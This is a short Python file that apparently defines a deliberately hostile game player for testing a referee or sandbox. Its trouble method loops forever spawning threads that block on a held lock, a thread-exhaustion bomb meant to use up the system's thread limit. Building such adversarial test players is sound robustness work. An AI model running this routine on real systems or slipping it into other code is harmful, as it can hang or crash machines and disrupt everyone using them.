"""Starts threads that only wait, as many as the system has numbers for."""

import threading

from legal import Legal


class Player(Legal):
    def trouble(self, chosen):
        threading.stack_size(65536)
        lock = threading.Lock()
        lock.acquire()
        while True:
            threading._start_new_thread(lock.acquire, ())
